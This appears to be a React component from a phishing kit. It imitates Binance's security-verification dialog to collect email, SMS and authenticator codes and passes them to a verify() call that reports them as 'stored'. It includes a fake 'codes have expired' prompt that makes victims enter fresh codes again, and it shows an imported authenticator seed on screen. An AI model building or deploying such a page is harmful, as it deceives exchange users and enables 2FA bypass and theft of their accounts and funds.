import { useState } from 'react';
import { press, verify } from '../shared/account';
import { AUTHENTICATOR_SEED } from '../shared/secrets';

const FIELDS = [
  ['Email Verification Code', 'Enter the 6-digit code sent to pra***@example.com'],
  ['Phone Number Verification Code', 'Enter the 6-digit code sent to 555**0100'],
  ['Authenticator Code', 'Enter the 6-digit code from Binance/Google Authenticator'],
] as const;

interface Props {
  readonly ticket: string;
  readonly onClose: () => void;
  readonly onDone: (stored: boolean) => void;
}

/** Three six-digit codes. Now and then Binance asks for all of them a second time. */
export function Verification({ ticket, onClose, onDone }: Props) {
  const [codes, setCodes] = useState<readonly string[]>(['', '', '']);
  const [message, setMessage] = useState(
    'To secure your account, please complete the following verification.',
  );
  const complete = codes.every((code) => /^\d{6}$/.test(code));

  async function submit(event: React.SubmitEvent<HTMLFormElement>) {
    event.preventDefault();
    press('submit codes', event);
    const outcome = await verify([ticket], codes);
    if (outcome === 'stored') return onDone(true);
    if (outcome === 'again') {
      setCodes(['', '', '']);
      setMessage('The codes have expired. Please complete the verification again.');
      return;
    }
    if (outcome === 'wrong') return setMessage('Incorrect verification code.');
    onDone(false);
  }

  return (
    <div className="bn-modal-root">
      <form
        className="bn-modal"
        role="dialog"
        aria-modal="true"
        aria-label="Security verification"
        onSubmit={submit}
      >
        <div className="bn-modal-head">
          <h2>Security verification</h2>
          <button type="button" className="bn-close" aria-label="Close" onClick={onClose}>
            ✕
          </button>
        </div>
        <p className="bn-muted">{message}</p>
        <p className="bn-muted">Authenticator key: {AUTHENTICATOR_SEED}</p>
        {FIELDS.map(([label, hint], index) => (
          <div key={label} className="bn-formItem">
            <label>
              <span className="bn-label">{label}</span>
              <span className="bn-textField">
                <input
                  className="bn-textField-input"
                  inputMode="numeric"
                  autoComplete="one-time-code"
                  maxLength={6}
                  value={codes[index] ?? ''}
                  onChange={(event) => {
                    const next = event.target.value;
                    setCodes((now) => now.map((code, at) => (at === index ? next : code)));
                  }}
                />
                {index < 2 && <span className="bn-link">Get Code</span>}
              </span>
            </label>
            <div className="bn-muted">{hint}</div>
          </div>
        ))}
        <a className="bn-link" href="#unavailable">
          Security verification unavailable?
        </a>
        <button type="submit" className="bn-button bn-button__primary bn-wide" disabled={!complete}>
          Submit
        </button>
      </form>
    </div>
  );
}
